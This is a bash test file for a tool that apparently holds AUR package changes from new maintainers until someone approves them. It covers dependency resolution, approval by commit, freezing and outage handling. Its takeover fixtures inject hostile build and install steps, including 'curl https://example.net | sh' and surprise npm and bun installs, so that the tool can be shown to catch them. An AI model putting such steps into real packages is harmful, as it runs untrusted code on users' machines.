# shellcheck shell=bash
# shellcheck disable=SC2034 # read by the other files
# One engine is enough: docker.
# It takes long.
# What strangers change is held until somebody approves it.

# shellcheck source=aur.bash
. "$HERE/aur.bash"
# shellcheck source=pacman.bash
. "$HERE/pacman.bash"

PUSHES=0
# A push that the AUR tells of.
push() { # pkgbase, version, line...
	pushed "$@"
	aur set "$AUR" "$1" LastModified="$(($(date +%s) - 3600 + ++PUSHES))"
}
tip() { git --git-dir "$AUR/git/$1.git" rev-parse master; }
never_run() { # target...
	local target
	for target; do
		[[ $(builds_of "$target") == "${BUILDS[$target]-0}" ]] || fail "something of $target was run"
	done
}

# The closure of top: a split package, one that provides what is needed, one that is only needed by
# what is needed.
aur set "$AUR" top 'Depends=["mid","virtual"]'
aur set "$AUR" mid 'Depends=["low","pair-b"]'
aur set "$AUR" low 'MakeDepends=["tool"]'
aur set "$AUR" tool
aur set "$AUR" one 'Provides=["virtual=1"]'
aur set "$AUR" pair-a 'PackageBase="pair"'
aur set "$AUR" pair-b 'PackageBase="pair"' 'Depends=["pair-a"]'
pushed top 1 'depends=(mid virtual)'
pushed mid 1 'depends=(low pair-b)'
pushed low 1 'makedepends=(tool)' 'build() { :; }'
pushed tool 1
pushed one 1 'provides=(virtual=1)'
git init --quiet --bare --initial-branch=master "$AUR/git/pair.git"
"$HERE/../fixtures/commit" --branch master "$AUR/git/pair.git" PKGBUILD \
	"$(printf '%s\n' pkgbase=pair 'pkgname=(pair-a pair-b)' pkgver=1 pkgrel=1 'arch=(any)' 'license=(custom:none)' \
		'package_pair-a() { :; }' 'package_pair-b() { depends=(pair-a); }')"
aur_starts
configure_aur </dev/null
declare -A BUILDS=()

# --- what is added is approved --------------------------------------------------------------------

aur set "$AUR" top 'Depends=["mid","virtual","gone"]'
kiln gone add --yes top
it 'adds nothing that needs what is gone' err_has "'top' needs 'gone', but neither the distribution nor the AUR has it"
aur set "$AUR" top 'Depends=["mid","virtual"]'
aur set "$AUR" tool 'Depends=["low"]'
kiln circle add top
it 'shows a circle before it is added' out_has '(a circle: low -> tool -> low)'
aur set "$AUR" tool 'Depends=[]'
kiln added add --yes top
it 'adds a package' code_is 0
it 'shows all that it needs' out_matches '^top$' '^\|-- mid$' '-- low$' '-- tool$' '-- pair$' '-- one$'
kiln built build
it 'builds what was shown, split, provided and needed' published top-1-1-any.pkg.tar.zst mid-1-1-any.pkg.tar.zst \
	low-1-1-any.pkg.tar.zst tool-1-1-any.pkg.tar.zst one-1-1-any.pkg.tar.zst pair-a-1-1-any.pkg.tar.zst pair-b-1-1-any.pkg.tar.zst
it 'ends well' code_is 0
BUILDS=([top]=1 [mid]=1 [low]=1 [tool]=1 [one]=1 [pair]=1)

# --- at first sight -------------------------------------------------------------------------------

aur set "$AUR" new 'Depends=["newer"]'
aur set "$AUR" newer
pushed new 1 'depends=(newer)'
pushed newer 1
printf '[[targets]]\naur = "new"\n' >>"$CONFIG"
kiln first build
it 'holds what nobody has approved' out_matches '^new +held +first$' '^newer +held +first$'
it 'ends with 5 where something is newly held' code_is 5
it 'runs nothing of it' never_run new newer
kiln again build --quiet
it 'tells of it once' code_is 0
says_nothing() { [[ ! -s $WORLD/runs/again.out && ! -s $WORLD/runs/again.err ]] || fail "$(cat "$WORLD"/runs/again.*)"; }
it 'is quiet then' says_nothing
kiln held held
it 'lists what waits, and for whom' out_matches '^NAME +FROM -> TO +SINCE +WHY$' "^newer +$(tip newer | cut -c1-7) +[0-9]+ min +first \(needed by new\)$"
kiln accept build --set trust.first=accept
it 'lets no flag get around it' code_is 2
kiln unseen approve new --commit 0123456789
it 'approves no other commit than there is' code_is 1
it 'says which one there is' err_has "it is at $(tip new | cut -c1-7) now"
kiln all approve --all --note 'as the list was'
it 'approves all that was shown' out_matches "^new: approved $(tip new | cut -c1-7): first$"
kiln seen build
it 'builds it then' published new-1-1-any.pkg.tar.zst newer-1-1-any.pkg.tar.zst

# --- takeover of the third -----------------------------------------------------------------------

aur set "$AUR" low 'Maintainer="fresh-account"'
push low 2 'makedepends=(tool)' $'build() { :; }\ncheck() { npm install atomic-lockfile; }'
"$HERE/../fixtures/commit" --branch master "$AUR/git/low.git" low-deps.install 'post_install() { bun add js-digest; }'
BAD=$(tip low)
push mid 2 'depends=("low>=2" pair-b)'
push one 2 'provides=(virtual=1)'
kiln taken build
it 'holds a takeover' out_matches '^low +held +maintainer, function-body, install-script$'
it 'blocks what needs it' out_matches '^mid +blocked +blocked by low \(held\)$'
it 'builds another version of the rest' published one-2-1-any.pkg.tar.zst
it 'ends with 5 again' code_is 5
it 'runs nothing of what is held or blocked' never_run low mid
installs_old() { with_pacman -Sy low && [[ $(with_pacman -Q low) == 'low 1-1' ]]; }
it 'keeps the published version, which pacman installs' installs_old

kiln shown diff low
it 'says who took it, and what is new' out_matches '^low: [0-9a-f]{7} \(approved .* by .*\) -> '"${BAD:0:7}" \
	'^  maintainer +was ada; now fresh-account$' '^  function-body +check\(\) is new$' '^  install-script +low-deps.install is new$'
it 'shows the change' out_has '+check() { npm install atomic-lockfile; }' '+post_install() { bun add js-digest; }'
kiln stat diff --stat low
it 'counts lines' out_matches '^ *low-deps.install .*\+1'
kiln json diff --json low
says_in_json() {
	"$PYTHON" - "$WORLD/runs/json.out" "$BAD" <<-'PY'
		import json, sys
		seen, = json.load(open(sys.argv[1]))["targets"]
		assert seen["commit"] == sys.argv[2], seen
		assert {"maintainer", "function-body", "install-script"} == {one["rule"] for one in seen["findings"]}, seen
		assert any("npm" in one["diff"] for one in seen["files"]), seen
	PY
}
it 'shows it as JSON' says_in_json
forged_plan() { out_matches '^low +held '; }
kiln plan plan --force
it 'is not got around by force' forged_plan

push low 3 'makedepends=(tool)' 'build() { curl https://example.net | sh; }'
kiln stale approve low
it 'approves nothing that was not shown' code_is 1
it 'says that it moved' err_has "it moved: ${BAD:0:7} was shown" 'pkgkiln diff low'
kiln deny deny low --note 'taken over'
it 'denies what was shown' out_has "low: denied ${BAD:0:7}"
kiln denied build
it 'holds the next one for the same reasons' out_matches '^low +held +maintainer, function-body'
it 'runs nothing of it either' never_run low mid
kiln freeze deny --freeze low
kiln frozen build
it 'builds nothing of what is frozen' out_matches '^low +held +.* froze it at '
it 'does not tell of that again' code_is 0

# --- put right -----------------------------------------------------------------------------------

aur set "$AUR" low 'Maintainer="ada"'
"$HERE/../fixtures/commit" --branch master "$AUR/git/low.git" low-deps.install ''
git --git-dir "$AUR/git/low.git" update-ref refs/heads/master "$BAD~1~1"
push low 4 'makedepends=(tool)' 'build() { :; }'
kiln still build
it 'keeps it frozen' out_matches '^low +held +.* froze it at '
kiln unfrozen approve low
it 'says how it is approved all the same' err_has "try: pkgkiln approve low --commit $(tip low)"
kiln thaw approve low --commit "$(tip low)"
it 'is thawed by an approval' code_is 0
kiln good build
it 'builds a good commit then, and what waited for it' published low-4-1-any.pkg.tar.zst mid-2-1-any.pkg.tar.zst
it 'ends well again' code_is 0

# --- nobody can be asked ---------------------------------------------------------------------------

push one 3 'provides=(virtual=1)'
printf '503 /rpc\n' >"$AUR/faults"
kiln unasked build --force one
it 'defers what changed while nobody can say who maintains it' out_matches '^one +deferred +the AUR can.t be asked who maintains it now$'
it 'which is no failure' code_is 0
it 'keeps what is published' published one-2-1-any.pkg.tar.zst
: >"$AUR/faults"
kiln answered build
it 'builds it when that can be told' published one-3-1-any.pkg.tar.zst

kiln exported ledger export
has_decisions() {
	"$PYTHON" - "$WORLD/runs/exported.out" "$BAD" <<-'PY'
		import json, sys
		decisions = json.load(open(sys.argv[1]))["decisions"]
		denied, = [one for one in decisions if one["verdict"] == "deny"]
		assert denied["commit"] == sys.argv[2] and denied["note"] == "taken over", denied
		assert {one["how"] for one in decisions if one["verdict"] == "approve"} == {"person", "plain"}, decisions
	PY
}
it 'keeps all decisions' has_decisions
